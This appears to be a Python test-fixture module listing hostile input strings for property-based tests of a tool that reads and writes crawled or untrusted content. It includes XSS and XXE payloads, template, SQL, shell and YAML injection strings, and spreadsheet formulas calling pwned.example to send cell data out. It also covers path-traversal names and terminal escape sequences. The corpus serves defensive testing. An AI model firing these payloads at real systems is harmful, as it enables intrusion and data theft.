"""What a crawled site, or a file from a stranger, may say: one list of texts, used by every test of what is read and written.

A text stands here because something once took it for more than text: a browser, a spreadsheet, a terminal, a template engine,
a parser or a file system.
"""

from hypothesis import strategies as st

MARK = "pwned"
"""A word of every text that would run: where it stands outside of text, something ran, or could."""

MARKUP = (
    "<script>window.pwned=1</script>",
    "</script><script>window.pwned=1</script>",
    "</title></style></textarea></noscript><script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    "<svg/onload=window.pwned=1>",
    '"><svg onload="window.pwned=1">',
    "' onmouseover='window.pwned=1' x='",
    '" autofocus onfocus="window.pwned=1" x="',
    "` onclick=`window.pwned=1",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<a href='javascript:window.pwned=1'>pwned</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<!--><script>window.pwned=1</script>-->",
    "]]><script>window.pwned=1</script><![CDATA[",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "<base href='https://pwned.example/'><link rel=stylesheet href=//pwned.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://pwned.example/'>",
    "<style>@import 'https://pwned.example/x.css';</style>",
    "</a:t></a:r><a:r><a:t>pwned",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY pwned SYSTEM 'file:///etc/passwd'>]><x>&pwned;</x>",
    "hreflang guide <script>window.pwned=1</script>",
)
"""Markup and ways out of attributes, scripts, comments, CDATA and XML."""

EXPRESSIONS = (
    "{{ 7 * 7 }} pwned",
    "{% for x in (1,) %}pwned{% endfor %}",
    "{{ ''.__class__.__mro__ }} pwned",
    "${7*7} #{7*7} <%= 7*7 %> pwned",
    "{0.__class__} {title} %s %(pwned)s \\g<0> {",
    "datum.url + warn('pwned')",
    "[pwned](javascript:window.pwned=1) ![x](https://pwned.example/x.png)",
    "# pwned\n\n* <b>pwned</b>\n\n```\n",
    "$\\href{javascript:window.pwned=1}{pwned}$",
    '{"$schema": "x", "signal": "pwned"}',
    "__import__('os').system('pwned')",
    "'; DROP TABLE links; -- pwned",
    "$(touch pwned) `touch pwned` ; touch pwned | cat & %PATH%",
)
"""Templates, Markdown, Vega, SQL, shells: what another program would compute."""

FORMULAS = (
    "=1+1+cmd|' /C calc'!A0",
    '=HYPERLINK("https://pwned.example/?"&A1,"click")',
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "x;=1+1",
    "x\n=1+1\n",
    "'=1+1",
    '"=1+1',
    '=DDE("cmd";"/C calc";"pwned")',
    '=IMPORTXML("https://pwned.example/","//a")',
    "{=1+1}",
    "<r>pwned</r>",
    "_x0041_pwned_x000D_",
)
"""What a spreadsheet would compute, or send somewhere."""

CHARACTERS = (
    "nul\x00 bell\x07 backspace\x08 escape\x1b delete\x7f",
    "c1 \x80\x85\x9b31m\x9f",
    "lone \ud800 and \udfff surrogates",
    "non-characters \ufffe \uffff \U0001fffe",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200e\u200f",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "\u2028line and paragraph\u2029 separators\x0b\x0c\x1c\x1d\x1e",
    "annotated \ufff9 marks \ufffa and \ufffb",
    "a" + "\u0301\u0489" * 300,
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 e\u0301 ﷽ 𒐫",
    "مرحبا بالعالم 中文標題 ไทย हिन्दी",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;pwned\x07\x1b]8;;https://pwned.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cHduZWQ=\x07",
    "line one\r\nline two\n\nlast\rline",
    "tab\tseparated\tvalues",
    "null",
    "NaN",
    "None",
    "nan",
    "inf",
    "-0",
    "1e999",
    "true",
    "0012",
    "1,234.5",
    "2026-01-01",
    "",
    " ",
    "@@",
    "pwned " * 8_000,
    "x" * 40_000,
)
"""Characters that files cannot hold, terminals obey, or eyes do not see; words that are taken for values; lengths."""

BREAKERS = (
    '"""',
    "'''",
    "\\",
    '\\"',
    "]\n[brand]\nname = 'pwned'\n",
    "# no comment",
    "a = 1\nb = [",
    "\"quoted\", 'quoted', «quoted»; comma, semicolon; bar | tab\t",
    "key: value\n- list\n!!python/object/apply:os.system ['pwned']",
    "%0d%0aSet-Cookie: pwned=1",
)
"""What ends a string of TOML, JSON, CSV, YAML or a header too early."""

NAMES = (
    "../../pwned",
    "..\\..\\pwned",
    "/etc/pwned",
    "C:\\pwned",
    "\\\\host\\pwned",
    "..",
    ".",
    "~/pwned",
    "~root",
    "a/b",
    "a\x00b",
    "a\nb",
    "CON",
    "con",
    "nul.txt",
    "COM1",
    "aux.toml",
    "LPT9",
    "trailing.",
    "trailing ",
    " leading",
    "-rf",
    "a:b",
    "a*b?",
    "<pwned>",
    "x" * 300,
    "ä" * 200,
    "",
    " ",
    ".hidden",
    "\u202egnp.exe",
)
"""Names that lead out of a folder, stand for a device, or are none."""

ADDRESSES = (
    "javascript:window.pwned=1",
    "JaVaScRiPt:window.pwned=1",
    "java\tscript:window.pwned=1",
    "\x01javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "vbscript:pwned",
    "file:///etc/passwd",
    "//pwned.example/",
    "https://shop.example@pwned.example/",
    "https://shop.example/<script>window.pwned=1</script>",
    "https://shop.example/'onmouseover='window.pwned=1",
    'https://shop.example/?q="><script>window.pwned=1</script>&a=@@',
    "https://shop.example/%00%0a%ff%",
    "https://shop.example/../../../etc/passwd",
    "https://shop.example/{{7*7}}/${7*7}",
    "https://shop.example/=cmd|'calc'!A0",
    "https://shop.example/" + "very-long/" * 900,
    "https://[::1]/",
    "https://[pwned",
    "https://xn--/",
    "https://shop.example:99999999/",
    "http://\ud800/",
    "mailto:pwned@pwned.example",
    "ftp://pwned.example/",
)
"""Addresses that no browser should follow, and those that break what takes them apart."""

TEXTS = (*MARKUP, *EXPRESSIONS, *FORMULAS, *CHARACTERS, *BREAKERS, *NAMES, *ADDRESSES)
"""All of them."""

SHORT = tuple(text for text in TEXTS if len(text) < 1_000)
"""Those that fit where many stand together."""

texts = st.sampled_from(TEXTS) | st.text(max_size=60)
"""Hypothesis: a hostile text, or any other."""

lines = st.lists(st.sampled_from(SHORT) | st.text(max_size=40), max_size=6)
"""Hypothesis: a few of them."""
